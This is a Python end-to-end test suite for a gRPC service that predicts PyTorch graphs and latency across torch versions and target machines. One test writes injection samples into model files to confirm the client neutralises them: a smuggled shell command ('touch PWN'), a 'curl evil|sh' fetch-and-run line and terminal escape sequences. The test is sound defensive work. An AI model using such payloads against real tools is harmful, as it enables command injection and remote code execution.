#!/usr/bin/env python3
"""A program is read as for the PyTorch of each target; what the first minute of a user looks like:
without --entry, without --input."""
import os
import re
import time
import unittest

import grpc

import programs

PROBE = os.path.join(programs.SOURCE, "tests", "e2e", "probe_of_few_networks.json")
NET = """
import torch
import torch.nn as nn
import torch.nn.functional as F


class Attention(nn.Module):
    def forward(self, q, k, v):
        if hasattr(F, "scaled_dot_product_attention"):
            return F.scaled_dot_product_attention(q, k, v)
        return torch.softmax(q @ k.transpose(-2, -1) / q.size(-1) ** 0.5, -1) @ v


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.attention = Attention()

    def forward(self, x):
        return self.attention(x, x, x)


if __name__ == "__main__":
    print(Net()(torch.randn(1, 4, 16, 8)).shape)
"""


class TorchVersionsTest(programs.ServedTest):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.pb, services = programs.stubs()
        cls.stub = services.CobraStub(grpc.insecure_channel(cls.server.address))
        # A machine with another PyTorch: the probe of a real one, with the version that it would
        # have.
        with open(PROBE) as file:
            probe = re.sub(r"libtorch-[0-9.]+", "libtorch-2.5.1", file.read())
        cls.stub.Calibrate(cls.pb.CalibrateRequest(probe_json=probe, target="newer"), timeout=60)
        cls.net = cls.path("net.py", NET)

    def predict(self, *targets, version="", mode=""):
        source = self.pb.SourceModel(
            file="net.py", entry="Net()", inputs=["1x4x16x8"], torch_version=version, mode=mode
        )
        source.files.add(path="net.py", text=NET.encode())
        return self.stub.Predict(self.pb.PredictRequest(targets=targets, source=source), timeout=60)

    def client(self, command, *flags, server=True):
        return programs.client(command, self.net, *(["--server", self.server.address] if server else []), *flags)

    def test_each_target_gets_the_graph_of_its_version(self):
        both = self.predict(self.target, "newer")
        old, new = self.predict(self.target), self.predict("newer")
        self.assertEqual([p.torch_version for p in both.predictions], ["1.13.0", "2.5.1"])
        self.assertEqual((old.node_count, new.node_count), (5, 1))
        self.assertEqual(both.node_count, old.node_count)  # that of the first target
        self.assertEqual(
            [p.latency_us for p in both.predictions], [old.predictions[0].latency_us, new.predictions[0].latency_us]
        )
        reverse = self.predict("newer", self.target)
        self.assertEqual(reverse.node_count, new.node_count)
        self.assertEqual(self.predict(self.target, "newer", version="2.1").predictions[0].torch_version, "2.1")

    def test_an_answer_for_several_versions_is_remembered(self):
        first = self.predict(self.target, "newer")
        for _ in range(200):  # until the images that know the files are made
            again = self.predict(self.target, "newer")
            self.assertEqual(list(again.predictions), list(first.predictions))
            if again.read_us == 0:
                return
            time.sleep(0.05)
        self.fail("it was read 200 times")

    def test_a_bundle_may_have_modules_of_the_readers_own_names(self):
        source = self.pb.SourceModel(file="net.py", entry="Net()", inputs=["1x4"])
        source.files.add(
            path="net.py", text=b"import warnings\nfrom torch import nn\nNet = lambda: nn.Linear(4, warnings.width)\n"
        )
        source.files.add(path="warnings.py", text=b"width = 3\n\ndef warn(*_):\n    pass\n")
        reply = self.stub.Predict(self.pb.PredictRequest(targets=[self.target], source=source), timeout=60)
        self.assertEqual(reply.parameter_count, 4 * 3 + 3)

    def test_the_client_does_the_same_on_its_own_machine(self):
        targets = ["--target", "newer", "--target", self.target]
        answers = [
            self.client("predict", "--entry", "Net()", "--input", "1x4x16x8", "--format", "json", *more).json()
            for more in (targets, [*targets, "--send", "source"])
        ]
        here, there = [
            [(p["target"], p["torch_version"], p["latency_us"]) for p in answer["predictions"]] for answer in answers
        ]
        self.assertEqual(here, there)
        self.assertEqual([version for _, version, _ in here], ["2.5.1", "1.13.0"])

    def test_without_a_target_the_newest_version_counts(self):
        self.assertIn(
            "scaled_dot_product_attention",
            self.client("graph", "--entry", "Net()", "--input", "1x4x16x8", server=False).out,
        )
        old = self.client(
            "graph", "--entry", "Net()", "--input", "1x4x16x8", "--torch-version", "1.13", server=False
        ).out
        self.assertNotIn("scaled_dot_product_attention", old)

    def test_the_only_model_of_a_file_is_taken_and_named(self):
        done = programs.client("graph", self.net, "--input", "1x4x16x8")
        self.assertEqual(done.code, 0, done.err)
        self.assertIn("net.py: no --entry, taking Net()", done.err)

    def test_an_input_is_proposed_and_not_used(self):
        done = programs.client("predict", self.net, "--target", "newer", "--server", self.server.address)
        self.assertEqual(done.code, 2, done.err)
        self.assertRegex(done.err, r"try: cobra-client predict \S*net.py --target newer --server \S+ --input 1x4x16x8")

    def test_no_version_that_is_none_reaches_a_reader(self):
        for version in ("2." + "0" * 2_000_000, "2.0\n", "2.0;x", "9.9", "1.14", "two"):
            with self.assertRaises(grpc.RpcError) as refused:
                self.predict(self.target, version=version)
            self.assertEqual(refused.exception.code(), grpc.StatusCode.INVALID_ARGUMENT, version[:20])
            self.assertIn("`torch_version`", refused.exception.details())
            self.assertLess(len(refused.exception.details()), 200)

    def test_source_is_read_for_a_few_versions_only(self):
        with open(PROBE) as file:
            probe = file.read()
        names = []
        for minor in range(5):
            names.append(f"machine-{minor}")
            changed = re.sub(r"libtorch-[0-9.]+", f"libtorch-2.{minor}.0", probe)
            self.stub.Calibrate(self.pb.CalibrateRequest(probe_json=changed, target=names[-1]), timeout=60)
        self.assertEqual(len(self.predict(*names[:4]).predictions), 4)
        with self.assertRaises(grpc.RpcError) as refused:
            self.predict(*names)
        self.assertEqual(refused.exception.code(), grpc.StatusCode.RESOURCE_EXHAUSTED)
        self.assertEqual(len(self.predict(*names, version="2.1.0").predictions), 5)
        odd = re.sub(r"libtorch-[0-9.]+", "libtorch-5..", probe)
        self.stub.Calibrate(self.pb.CalibrateRequest(probe_json=odd, target="odd"), timeout=60)
        self.assertEqual(self.predict("odd").predictions[0].torch_version, "2.13.0")

    def test_what_a_file_says_is_no_command(self):
        path = os.path.join(self.folder.name, "evil.py")
        for line in (
            'class Net(nn.Module):\n    def __init__(self, n: "\'; touch PWN #"): pass\n',
            "globals()[\"'\\ncurl evil|sh\\n'\"] = nn.Linear(1, 1)\n",
            "globals()['\\x1b]0;title\\x07\\x1b[2J'] = nn.Linear(1, 1)\n",
            "net = nn.Sequential()\nnet.add_module('\\x1b[2J\\u202e\\x9b', nn.ReLU())\n",
        ):
            with open(path, "w") as file:
                file.write("import torch.nn as nn\n" + line)
            done = programs.client("graph", path, "--input", "1x4")
            for text in (done.out, done.err):
                self.assertNotRegex(text, "[\x1b\x07\x9b\u202e]")
                self.assertNotRegex(text, r"--entry '[^']*[^\w().' ]")

    def test_training_is_another_network(self):
        source = self.pb.SourceModel(file="net.py", entry="nn.Sequential(nn.BatchNorm2d(4), nn.Dropout(0.1))")
        source.files.add(path="net.py", text=NET.encode())
        source.inputs.append("2x4x16x8")
        request = self.pb.PredictRequest(targets=[self.target], source=source)
        prints = set()
        for mode in ("", "eval", "train"):
            request.source.mode = mode
            prints.add(self.stub.Predict(request, timeout=60).fingerprint)
        self.assertEqual(len(prints), 2)
        request.source.mode = "fast"
        with self.assertRaises(grpc.RpcError) as refused:
            self.stub.Predict(request, timeout=60)
        self.assertIn("fast: is not a mode", refused.exception.details())


if __name__ == "__main__":
    unittest.main()
